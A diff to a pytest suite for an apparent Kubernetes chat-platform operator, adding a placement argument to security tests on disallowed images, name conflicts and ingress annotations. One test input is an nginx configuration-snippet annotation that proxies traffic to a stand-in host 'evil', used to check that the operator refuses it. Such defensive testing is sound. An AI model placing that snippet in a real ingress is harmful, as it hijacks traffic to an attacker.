@@ -326,7 +326,7 @@ def deployment_images(kube: KubeCluster, ns: str, *names: str) -> dict[str, str]
 @pytest.mark.kube
 def test_an_image_from_a_repository_the_operator_does_not_allow_is_refused_and_nothing_rolls(
         kube: KubeCluster, ns: str) -> None:
-    kube.apply(connections_secret(ns), platform(ns), room(ns, "lobby"))
+    kube.apply(connections_secret(ns), platform(ns), room(ns, "lobby", placement="Dedicated"))
     wait_condition(kube, "vezaplatform", "demo", ns)
     wait_condition(kube, "chatroom", "lobby", ns)
     before = deployment_images(kube, ns, "demo-api", "chat-lobby")
@@ -379,7 +379,7 @@ def test_a_secret_not_labelled_for_the_platform_is_never_mounted(kube: KubeClust
 def test_ingress_annotations_that_configure_the_controller_are_refused(kube: KubeCluster, ns: str) -> None:
     snippet = {"nginx.ingress.kubernetes.io/configuration-snippet": "location / { proxy_pass http://evil; }"}
     kube.apply(connections_secret(ns), platform(ns, ingress={"host": "veza.test", "annotations": snippet}),
-               room(ns, "lobby"))
+               room(ns, "lobby", placement="Dedicated"))
     p = wait_condition(kube, "vezaplatform", "demo", ns, status="False", reason="AnnotationNotAllowed")
     assert "nginx.ingress.kubernetes.io/configuration-snippet" in condition(p)["message"]
     wait_condition(kube, "chatroom", "lobby", ns, status="False", reason="AnnotationNotAllowed")
@@ -399,7 +399,7 @@ def test_an_existing_object_of_the_same_name_is_never_taken_over(kube: KubeClust
     theirs = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "chat-payments", "namespace": ns},
               "spec": {"selector": {"app": "payments"}, "ports": [{"port": 80, "targetPort": 8443}]}}
     kube.apply(theirs)
-    kube.apply(connections_secret(ns), platform(ns), room(ns, "payments"))
+    kube.apply(connections_secret(ns), platform(ns), room(ns, "payments", placement="Dedicated"))
     r = wait_condition(kube, "chatroom", "payments", ns, status="False", reason="NameConflict")
     assert "Service/chat-payments" in condition(r)["message"]
     service = kube.get("service", "chat-payments", ns)
